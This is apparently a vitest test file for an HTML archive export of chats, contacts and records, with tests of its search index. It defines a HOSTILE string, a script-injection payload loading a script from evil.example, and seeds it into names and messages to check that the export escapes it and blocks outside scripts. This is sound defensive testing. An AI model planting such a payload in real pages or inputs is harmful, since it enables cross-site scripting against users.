import { posix } from 'node:path';
import * as fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rounds } from '../../../test/support/depth.ts';
import { openViewFixture, type ViewFixture } from '../../../test/support/view-fixture.ts';
import type { KeepsakeOptions } from '../../contract/keepsake.ts';
import { prepareExport } from '../index.ts';
import { Postings } from './search/postings.ts';
import { SearchIndex } from './search/search-index.ts';
import { searchTerms } from './search/words.ts';

const ANNA = 'anna@example.com';
const DAY = 86_400_000;
const MANY = 1300;
const HOSTILE = `"><script src="https://evil.example/x.js"></script>'</script>\u2028</style>`;

describe('a keepsake', () => {
  let fixture: ViewFixture;
  beforeAll(async () => {
    fixture = await openViewFixture();
    await fixture.index('contacts', (rows) => rows.contact('p1', `Anna ${HOSTILE}`, [ANNA]));
    await fixture.index('permissions', (rows) => {
      rows.add('permissions' as never, {
        key: 'p',
        app: 'com.example.trails',
        service: 'microphone',
        access: 'allowed',
      });
    });
    await fixture.index('health-workouts', (rows) => {
      rows.add('health_workouts' as never, { key: 'w1', activity: 'hiking', startedAt: DAY });
    });
    await fixture.index('reminders', (rows) => {
      rows.add('reminders' as never, { key: 'r1', title: 'Milk', isDone: true, isDeleted: false });
    });
    await fixture.index('messages', (rows) => {
      rows.conversation(1, [ANNA], { title: `Hike ${HOSTILE}`, messageCount: MANY });
      for (let key = 1; key <= MANY; key++) {
        const reply = key === MANY ? { replyTo: 'GUID-1', replyToKey: 1 } : {};
        rows.message(key, 1, DAY * key * 0.25, { text: `number ${key} ${HOSTILE}`, sender: ANNA, ...reply });
      }
      rows.add('message_threads', { thread: 'GUID-1', at: DAY * MANY * 0.25, message: MANY, isReply: true });
      rows.message(MANY + 1, 1, DAY * MANY, { text: 'answer', isFromMe: true, replyTo: 'GUID-2', replyToKey: 1299 });
      rows.conversation(2, ['+4930123456'], { title: 'Short', messageCount: 1 });
      rows.message(5000, 2, 5 * DAY, { text: 'hello', isFromMe: true });
      rows.conversation(3, ['+4930123457'], { title: 'Empty', messageCount: 0 });
    });
  });
  afterAll(() => fixture.dispose());

  async function made(keepsake?: Partial<KeepsakeOptions>, more: object = {}): Promise<Map<string, string>> {
    const request = { what: 'keepsake', format: 'html', timeZone: 'UTC', files: false, bom: false, ...more };
    const options = keepsake === undefined ? {} : { keepsake: { pictures: 'pictures' as const, ...keepsake } };
    const context = { views: fixture.ctx, files: null, version: '1' };
    const prepared = await prepareExport(context, fixture.backup, { ...request, ...options });
    const files = new Map<string, string>();
    for await (const { path, contents } of prepared.files()) {
      expect([path, files.has(path)]).toEqual([path, false]);
      files.set(path, (await Array.fromAsync(contents)).map(String).join(''));
    }
    return files;
  }

  /** The whole keepsake, made once. */
  let whole: Promise<Map<string, string>> | undefined;

  it('has links that all lead somewhere inside of it', async () => {
    const files = await (whole ??= made());
    let count = 0;
    for (const [path, text] of files) {
      if (!path.endsWith('.html')) continue;
      for (const [, address = ''] of text.matchAll(/(?:href|src|action)="([^"]*)"(?! rel="noreferrer noopener">)/g)) {
        const { pathname, hash } = new URL(address, `file:///${path}`);
        expect([address, new URL(address, `file:///${path}`).protocol]).toEqual([address, 'file:']);
        const target = files.get(decodeURIComponent(pathname.slice(1)));
        expect([path, address, target !== undefined]).toEqual([path, address, true]);
        if (hash !== '')
          expect([path, address, target?.includes(` id="${hash.slice(1)}"`)]).toEqual([path, address, true]);
        count++;
      }
    }
    expect(count).toBeGreaterThan(300);
  });

  it('has chats in pages with an index by day, and leads to what was replied to', async () => {
    const files = await (whole ??= made());
    const folder = [...files.keys()].find((path) => path.endsWith('/3.html'))?.slice(0, -'/3.html'.length) ?? '';
    const pages = ['1', '2', '3'].map((name) => files.get(`${folder}/${name}.html`) ?? '');
    expect(pages.map((page) => page.match(/class="m[ "]/g)?.length)).toEqual([500, 500, MANY + 1 - 1000]);
    expect(pages[2]).toContain('<blockquote><a href="1.html#m1">');
    expect(pages[2]).toContain('<blockquote><a href="#m1299">');
    expect(pages[0]).toContain(
      `<details class="t"><summary>1 reply</summary><ol><li class="q"><div class="h"><a href="3.html#m${MANY}">`,
    );
    expect(pages[0]).toContain(`<div class="b">number ${MANY} `);
    const index = files.get(`${folder}/index.html`) ?? '';
    expect(index).toContain('<a href="1.html#d1970-01-01">January 1970</a> <span class="p">');
    expect(index).toContain('<a href="2.html#d1970-05-07">1970-05-07</a> <span class="p">4</span>');
    expect(files.get('chats/1.html')).not.toContain('Empty');
    expect(files.get('index.html')).toContain(`${(MANY + 2).toLocaleString('en')} messages`);
  });

  it('has words for codes and flags, in pages and hits', async () => {
    const include = ['permissions', 'health-workouts', 'reminders'];
    const files = await made({ include }, { language: 'de' });
    const hits = [...files].flatMap(([path, text]) => (/^search\/0\/d\d+\.js$/.test(path) ? text : [])).join('');
    expect(hits).toContain('"Wandern"');
    expect(hits).toContain('"Erledigt"');
    expect(hits).toContain('Mikrofon\\nErlaubt"]');
    expect(hits).not.toMatch(/microphone|allowed|hiking|"Ja"/i);
    expect(files.get('records/health-workouts/1.html')).toContain('<h2>Wandern</h2>');
    expect(files.get('records/permissions/1.html')).toContain('<p>Mikrofon\nErlaubt</p>');
  });

  it('has no script but for the search, and asks nobody', async () => {
    const files = await (whole ??= made());
    for (const [path, text] of files) {
      if (!path.endsWith('.html')) continue;
      const scripts = text.match(/<script\b[^>]*>/g) ?? [];
      expect([path, scripts]).toEqual([path, path === 'search.html' ? ['<script src="search/search.js">'] : []]);
      expect(text).toMatch(
        /^<!doctype html>\n<html lang="en"><head><meta charset="utf-8">\n<meta http-equiv="Content-Sec/,
      );
      expect(text).toContain("default-src 'none'");
    }
  });

  it('consists of what was chosen, and says so', async () => {
    const one = await made({ chats: [{ app: 'conversations', key: '2' }] });
    expect([...one.keys()].filter((path) => /^(?:chats|records)\//.test(path))).toEqual([
      'chats/1/1.html',
      'chats/1.html',
    ]);
    expect(JSON.parse(one.get('ABOUT.json') ?? '')).toMatchObject({ isComplete: false, excerpt: { count: 1 } });
    const contacts = await made({ include: ['contact'] });
    expect([...contacts.keys()].some((path) => path.startsWith('chats/'))).toBe(false);
    expect(contacts.get('records/contact/1.html')).toContain(ANNA);
    const days = await made(undefined, { from: '1970-01-02', to: '1970-01-03' });
    expect(days.get('index.html')).toContain('8 messages');
    await expect(made(undefined, { keys: ['1'] })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
    await expect(made({ include: ['nothing'] })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
    await expect(made({ chats: [{ app: 'nobody', key: '1' }] })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
    await expect(made({ chats: [{ app: 'conversations', key: '9' }] })).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  it('makes the same bytes again', async () => {
    const [one, other] = [await made(undefined, { exportedAt: 0 }), await made(undefined, { exportedAt: 0 })];
    expect([...one]).toEqual([...other]);
  });
});

describe('the search index of a keepsake', () => {
  it.each([
    ['Grüße an Zoë', ['grusse', 'an', 'zoe']],
    ['東京タワーに行く', ['東京', '京タ', 'タワ', 'ワー', 'ーに', 'に行', '行く', 'く']],
    ['مَرْحَبًا بالعالم', ['مرحبا', 'بالعالم']],
    ['안녕하세요 Łódź', ['안녕하세요', 'lodz']],
    ['สวัสดี', ['สว', 'วั', 'ัส', 'สด', 'ดี', 'ี']],
    ['see you 🎉🎉', ['see', 'you', '🎉', '🎉']],
    ["don't +49 30/123", ['don', 't', '49', '30', '123']],
    ['x'.repeat(40), ['x'.repeat(24)]],
    ['...', []],
  ])('has the terms of %j', (text, terms) => {
    expect(searchTerms(text)).toEqual(terms);
  });

  it('gives each term exactly its documents', () => {
    const word = fc.constantFrom(
      'a',
      'b',
      'é',
      '東',
      '__proto__',
      'constructor',
      'long word that is longer than others',
    );
    fc.assert(
      fc.property(fc.array(fc.array(word, { maxLength: 6 }), { maxLength: 200 }), (documents) => {
        const postings = new Postings();
        for (const [number, words] of documents.entries()) for (const each of words) postings.add(each, number);
        const found = new Map([...postings.encoded()].map(([term, text]) => [term, decoded(text)]));
        const terms = [...new Set(documents.flat())].toSorted();
        expect([...found.keys()]).toEqual(terms);
        for (const term of terms) {
          const expected = documents.flatMap((words, number) => (words.includes(term) ? [number] : []));
          expect(found.get(term)).toEqual(expected);
        }
      }),
      { seed: 20_261_129, numRuns: rounds(100) },
    );
  });

  it('is in small scripts, whose names are safe', async () => {
    const index = new SearchIndex();
    index.begin('Chats', 'One');
    for (let number = 0; number < 3000; number++) {
      index.add({
        address: `1.html#m${number}`,
        title: '',
        stamp: '',
        at: number,
        text: `word${number} all </script>`,
      });
    }
    const files = new Map<string, string>();
    for (const { path, contents } of index.end())
      files.set(path, (await Array.fromAsync(contents)).map(String).join(''));
    expect([...files.keys()].every((path) => posix.normalize(path) === path && /^search\/[\w/]+\.js$/.test(path))).toBe(
      true,
    );
    expect(Math.max(...[...files.values()].map(({ length }) => length))).toBeLessThan(64 * 1024);
    expect(files.get('search/directory.js')).toContain('"segments":[[3000,["all","');
  });
});

/** Documents of text by the rules of `postings.ts`. */
function decoded(text: string): number[] {
  const digits = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const found: number[] = [];
  let [document, value, scale] = [-1, 0, 1];
  for (const character of text) {
    const digit = digits.indexOf(character);
    value += (digit % 32) * scale;
    scale *= 32;
    if (digit >= 32) continue;
    document += value + 1;
    found.push(document);
    [value, scale] = [0, 1];
  }
  return found;
}
